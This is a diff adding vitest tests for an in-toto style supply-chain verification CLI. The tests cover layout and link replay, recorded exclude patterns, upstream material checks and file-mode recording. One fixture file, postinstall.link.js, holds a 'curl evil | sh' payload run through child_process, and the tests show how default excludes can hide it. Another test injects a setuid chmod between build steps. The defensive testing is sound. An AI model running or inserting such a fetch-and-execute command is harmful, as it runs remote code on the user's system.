@@ -1,0 +1,355 @@
+/**
+ * SECURITY.md recipes that need an option of ours (the reference has no defence): A-3 recorded
+ * excludes and `verify --deny-excludes`, A-4 `run --verify-materials`, A-5 `--record-mode`,
+ * A-7 `verify --expect-layout-digest`, A-8 `run --run-id` and `verify --require-run-id`. Real keys,
+ * real files, the real CLI; the reference's in-toto-verify where its acceptance is the point.
+ */
+import { beforeAll, describe, expect, it } from 'vitest';
+import { createHash } from 'node:crypto';
+import { chmodSync, existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs';
+import { join } from 'node:path';
+import {
+  intotoAsync as intoto,
+  referenceAsync as reference,
+  requireReference,
+  type RunResult,
+} from '../helpers/cli.js';
+import { testdir } from '../helpers/vectors.js';
+import { layoutBody, party, signed, write, type Party, type StepSpec } from '../helpers/chain.js';
+
+const haveReference = requireReference();
+
+let owner: Party;
+let alice: Party;
+let mallory: Party;
+
+beforeAll(() => {
+  // RSA PEM keys: what in-toto-verify reads without -t.
+  owner = party('rsa');
+  alice = party('rsa');
+  mallory = party('rsa');
+});
+
+const out = (r: RunResult) => `${r.stdout}${r.stderr}`;
+
+/** A project: keys and the signed layout in `dir`, the build tree in `dir/work`, links in `dir/links`. */
+async function project(steps: StepSpec[], files: Record<string, string> = {}) {
+  const dir = testdir();
+  const work = join(dir, 'work');
+  mkdirSync(work);
+  for (const [name, content] of Object.entries(files)) write(work, name, content);
+  write(dir, 'owner.pub', owner.pubText);
+  write(dir, 'alice.key', alice.privText);
+  write(dir, 'mallory.key', mallory.privText);
+  write(dir, 'root.layout', await signed(layoutBody(steps), [owner]));
+  const links = join(dir, 'links');
+  const run = (name: string, args: string[], key = 'alice.key') =>
+    intoto(['run', '-n', name, '-k', join(dir, key), '-d', links, ...args], { cwd: work });
+  const verify = (args: string[] = []) =>
+    intoto(['verify', '-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links', ...args], {
+      cwd: dir,
+    });
+  const linkOf = (name: string, p: Party = alice) =>
+    join(links, `${name}.${p.pub.keyID.slice(0, 8)}.link`);
+  return { dir, work, links, run, verify, linkOf };
+}
+
+const allowAll = (name: string): StepSpec => ({
+  name,
+  keys: [alice],
+  materials: [['ALLOW', '*']],
+  products: [['ALLOW', '*']],
+});
+
+describe('A-7: layout replay — verify --expect-layout-digest', () => {
+  it('an older, permissive, validly signed layout fails against the pin of the current one', async () => {
+    const p = await project([allowAll('build')], { 'app.js': 'ok\n' });
+    expect((await p.run('build', ['-p', 'app.js', '-x'])).status).toBe(0);
+    const strictLayout = await signed(
+      layoutBody([{ ...allowAll('build'), products: [['DISALLOW', '*']] }]),
+      [owner]
+    );
+    write(p.dir, 'current.layout', strictLayout);
+    const pin = (file: string) =>
+      `sha256:${createHash('sha256')
+        .update(readFileSync(join(p.dir, file)))
+        .digest('hex')}`;
+
+    const replayed = await p.verify(['--expect-layout-digest', pin('current.layout')]);
+    expect(replayed.status, out(replayed)).toBe(1);
+    expect(out(replayed)).toMatch(
+      /root\.layout is not the pinned layout: its sha256 is [0-9a-f]{64}, expected/
+    );
+    expect(out(replayed)).not.toMatch(/✓ build/); // nothing else was checked
+
+    const pinned = await p.verify(['--expect-layout-digest', pin('root.layout')]);
+    expect(pinned.status, out(pinned)).toBe(0);
+
+    const json = await p.verify(['--json', '--expect-layout-digest', pin('current.layout')]);
+    expect(JSON.parse(json.stdout).failure.code).toBe('LAYOUT_DIGEST_MISMATCH');
+
+    const bad = await p.verify(['--expect-layout-digest', 'md5:abc']);
+    expect(bad.status).toBe(2);
+    expect(bad.stderr).toMatch(/--expect-layout-digest takes sha256:<64 hex digits>/);
+  });
+});
+
+describe('A-8: link replay — run --run-id, verify --require-run-id', () => {
+  it('a link of an earlier run, copied into this run, fails; the reference still accepts the field', async () => {
+    const p = await project([allowAll('build')], { 'app.js': 'v2\n' });
+    expect((await p.run('build', ['-p', 'app.js', '--run-id', 'pipeline-41', '-x'])).status).toBe(
+      0
+    );
+    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
+    expect(link.signed.environment.run_id).toBe('pipeline-41');
+
+    const replay = await p.verify(['--require-run-id', 'pipeline-42']);
+    expect(replay.status, out(replay)).toBe(1);
+    expect(out(replay)).toContain(
+      `${p.linkOf('build').replace(`${p.dir}/`, '')}: was recorded in run "pipeline-41", not "pipeline-42"`
+    );
+    expect(out(replay)).toMatch(/step build needs 1 link/);
+    expect((await p.verify(['--require-run-id', 'pipeline-41'])).status).toBe(0);
+
+    // A link recorded without an id is refused as well: the id cannot be proven.
+    expect((await p.run('build', ['-p', 'app.js', '-x'])).status).toBe(0);
+    const none = await p.verify(['--require-run-id', 'pipeline-41']);
+    expect(none.status).toBe(1);
+    expect(out(none)).toMatch(/records no run id \(--require-run-id pipeline-41\)/);
+    expect((await p.verify()).status).toBe(0);
+
+    if (!haveReference) return;
+    expect((await p.run('build', ['-p', 'app.js', '--run-id', 'pipeline-42', '-x'])).status).toBe(
+      0
+    );
+    const ref = await reference(
+      'in-toto-verify',
+      ['-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links'],
+      { cwd: p.dir }
+    );
+    expect(ref.status, out(ref)).toBe(0);
+  });
+
+  it('record start --run-id carries the id through record stop', async () => {
+    const p = await project([allowAll('build')], { 'app.js': 'x\n' });
+    const key = join(p.dir, 'alice.key');
+    const start = await intoto(
+      ['record', 'start', '-n', 'build', '-k', key, '-m', 'app.js', '--run-id', 'r7'],
+      { cwd: p.work }
+    );
+    expect(start.status, out(start)).toBe(0);
+    const stop = await intoto(
+      ['record', 'stop', '-n', 'build', '-k', key, '-p', 'app.js', '-d', p.links],
+      { cwd: p.work }
+    );
+    expect(stop.status, out(stop)).toBe(0);
+    expect((await p.verify(['--require-run-id', 'r7'])).status).toBe(0);
+    expect((await p.verify(['--require-run-id', 'r8'])).status).toBe(1);
+  });
+});
+
+describe('A-3 recipe 2: default excludes are recorded and can be denied', () => {
+  it('postinstall.link.js hidden by *.link* fails verify --deny-excludes; --exclude-nothing records it', async () => {
+    const p = await project([allowAll('build')], {
+      'app.js': 'app\n',
+      'postinstall.link.js': 'require("child_process").exec("curl evil | sh")\n',
+    });
+    const hidden = await p.run('build', ['-p', '.', '-x']);
+    expect(hidden.status, out(hidden)).toBe(0);
+    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
+    expect(Object.keys(link.signed.products)).toEqual(['app.js']);
+    expect(link.signed.environment.excludes).toEqual(['*.link*', '.git', '*.pyc', '*~']);
+
+    // Verified as the reference would: passes, the payload unseen.
+    expect((await p.verify()).status).toBe(0);
+    const denied = await p.verify(['--deny-excludes']);
+    expect(denied.status, out(denied)).toBe(1);
+    expect(out(denied)).toMatch(
+      /was recorded with exclude patterns "\*\.link\*", "\.git", "\*\.pyc", "\*~": files matching them are not in it \(--deny-excludes\)/
+    );
+
+    const all = await p.run('build', ['-p', '.', '-x', '--exclude-nothing']);
+    expect(all.status, out(all)).toBe(0);
+    const full = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
+    expect(Object.keys(full.signed.products).sort()).toEqual(['app.js', 'postinstall.link.js']);
+    expect(full.signed.environment.excludes).toEqual([]);
+    expect((await p.verify(['--deny-excludes'])).status).toBe(0);
+
+    const both = await p.run('build', ['-p', '.', '-x', '--exclude-nothing', '--exclude', 'a']);
+    expect(both.status).toBe(2);
+  });
+
+  it('a link that does not record its excludes (e.g. from the reference) is refused by --deny-excludes', async () => {
+    const p = await project([allowAll('build')], { 'app.js': 'app\n' });
+    const { linkBody } = await import('../helpers/chain.js');
+    write(
+      p.links,
+      `build.${alice.pub.keyID.slice(0, 8)}.link`,
+      await signed(linkBody('build', {}, {}), [alice])
+    );
+    const r = await p.verify(['--deny-excludes']);
+    expect(r.status).toBe(1);
+    expect(out(r)).toMatch(/does not record its exclude patterns, so what it left out is unknown/);
+  });
+});
+
+describe('A-4: functionaries verify their inputs — run --verify-materials', () => {
+  const steps = (): StepSpec[] => [allowAll('build'), allowAll('package')];
+
+  it('a material changed since the upstream step stops the command before it runs', async () => {
+    const p = await project(steps(), { 'app.js': 'built\n' });
+    expect((await p.run('build', ['-p', 'app.js', '-x'])).status).toBe(0);
+    const pkg = (extra: string[] = [], key?: string) =>
+      p.run(
+        'package',
+        [
+          '-m',
+          'app.js',
+          '--verify-materials',
+          p.linkOf('build'),
+          ...extra,
+          '--',
+          'sh',
+          '-c',
+          'touch side-effect',
+        ],
+        key
+      );
+
+    writeFileSync(join(p.work, 'app.js'), 'tampered in transit\n');
+    const refused = await pkg(['--layout', join(p.dir, 'root.layout')]);
+    expect(refused.status, out(refused)).toBe(1);
+    expect(refused.stderr).toMatch(
+      /1 material\(s\) differ from the upstream products: app\.js \(.*build\.[0-9a-f]{8}\.link\); the command was not run/
+    );
+    expect(refused.stderr).toMatch(/app\.js: sha256 [0-9a-f]{12} here, sha256 [0-9a-f]{12} in /);
+    expect(existsSync(join(p.work, 'side-effect'))).toBe(false);
+    expect(existsSync(p.linkOf('package'))).toBe(false);
+
+    writeFileSync(join(p.work, 'app.js'), 'built\n');
+    const ran = await pkg([
+      '--layout',
+      join(p.dir, 'root.layout'),
+      '--layout-keys',
+      join(p.dir, 'owner.pub'),
+    ]);
+    expect(ran.status, out(ran)).toBe(0);
+    expect(existsSync(join(p.work, 'side-effect'))).toBe(true);
+    expect(existsSync(p.linkOf('package'))).toBe(true);
+  });
+
+  it('with --layout, an upstream link signed by someone the layout does not authorise is refused', async () => {
+    const p = await project(steps(), { 'app.js': 'built\n' });
+    // mallory records "build" (identical content — the signature is what is wrong).
+    expect((await p.run('build', ['-p', 'app.js', '-x'], 'mallory.key')).status).toBe(0);
+    const forged = p.linkOf('build', mallory);
+    const args = [
+      '-m',
+      'app.js',
+      '--verify-materials',
+      forged,
+      '--',
+      'sh',
+      '-c',
+      'touch side-effect',
+    ];
+    const r = await p.run('package', ['--layout', join(p.dir, 'root.layout'), ...args]);
+    expect(r.status, out(r)).toBe(1);
+    expect(r.stderr).toMatch(
+      /is not validly signed by a functionary the layout authorises for step build/
+    );
+    expect(existsSync(join(p.work, 'side-effect'))).toBe(false);
+    // Without --layout the content matches and the step runs, with a warning that nobody was checked.
+    const unchecked = await p.run('package', args);
+    expect(unchecked.status, out(unchecked)).toBe(0);
+    expect(unchecked.stderr).toMatch(/upstream links were not checked for signatures/);
+  });
+
+  it('bad invocations and unreadable upstream links are usage errors (exit 2)', async () => {
+    const p = await project(steps(), { 'app.js': 'x\n' });
+    const a = await p.run('package', ['--layout', join(p.dir, 'root.layout'), '-x']);
+    expect(a.status).toBe(2);
+    expect(a.stderr).toMatch(/--layout and --layout-keys go with --verify-materials/);
+    const b = await p.run('package', ['-m', 'app.js', '--verify-materials', 'nope.link', '-x']);
+    expect(b.status).toBe(2);
+    expect(b.stderr).toMatch(/nope\.link: cannot read the upstream link \(ENOENT\)/);
+  });
+});
+
+describe('A-5: file modes — run --record-mode', () => {
+  const steps = (): StepSpec[] => [
+    {
+      name: 'build',
+      keys: [alice],
+      products: [
+        ['CREATE', 'bin/tool'],
+        ['DISALLOW', '*'],
+      ],
+    },
+    {
+      name: 'package',
+      keys: [alice],
+      materials: [
+        ['MATCH', 'bin/tool', 'WITH', 'PRODUCTS', 'FROM', 'build'],
+        ['DISALLOW', '*'],
+      ],
+    },
+  ];
+
+  async function chain(recordMode: boolean) {
+    const p = await project(steps(), { 'bin/tool': '#!/bin/sh\necho tool\n' });
+    const flag = recordMode ? ['--record-mode'] : [];
+    chmodSync(join(p.work, 'bin/tool'), 0o755);
+    expect((await p.run('build', ['-p', 'bin/tool', '-x', ...flag])).status).toBe(0);
+    chmodSync(join(p.work, 'bin/tool'), 0o4755); // setuid slipped in between the steps
+    expect((await p.run('package', ['-m', 'bin/tool', '-x', ...flag])).status).toBe(0);
+    return p;
+  }
+
+  it('without it a chmod +s between steps is invisible (documented limitation)', async () => {
+    const p = await chain(false);
+    const r = await p.verify();
+    expect(r.status, out(r)).toBe(0);
+  });
+
+  it('with it on both steps the MATCH fails, naming the file and both hash dicts', async () => {
+    const p = await chain(true);
+    const link = JSON.parse(readFileSync(p.linkOf('build'), 'utf8'));
+    expect(link.signed.products['bin/tool'].mode).toBe('0755');
+    const r = await p.verify();
+    expect(r.status, out(r)).toBe(1);
+    expect(out(r)).toMatch(/package materials: 'DISALLOW \*' matched 1 artifact\(s\): bin\/tool/);
+    expect(out(r)).toMatch(
+      /bin\/tool: mode 4755…, sha256 [0-9a-f]{12}… here; differs from bin\/tool in the products of build .*: mode 0755…/
+    );
+    if (!haveReference) return;
+    // The reference reads the extra entry as one more hash and fails the same MATCH.
+    const ref = await reference(
+      'in-toto-verify',
+      ['-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links'],
+      { cwd: p.dir }
+    );
+    expect(ref.status).toBe(1);
+    expect(out(ref)).toMatch(/bin\/tool/);
+  });
+
+  it('the reference accepts links recorded with --record-mode when nothing changed', async () => {
+    if (!haveReference) return;
+    const p = await project(steps(), { 'bin/tool': '#!/bin/sh\n' });
+    chmodSync(join(p.work, 'bin/tool'), 0o755);
+    expect((await p.run('build', ['-p', 'bin/tool', '-x', '--record-mode'])).status).toBe(0);
+    expect((await p.run('package', ['-m', 'bin/tool', '-x', '--record-mode'])).status).toBe(0);
+    expect((await p.verify()).status).toBe(0);
+    const ref = await reference(
+      'in-toto-verify',
+      ['-l', 'root.layout', '-k', 'owner.pub', '--link-dir', 'links'],
+      { cwd: p.dir }
+    );
+    expect(ref.status, out(ref)).toBe(0);
+    // match-products understands the mode entry (it is not a hash algorithm).
+    const m = await intoto(['match-products', '-l', p.linkOf('build'), '-p', 'bin/tool'], {
+      cwd: p.work,
+    });
+    expect(m.status, out(m)).toBe(0);
+  });
+});
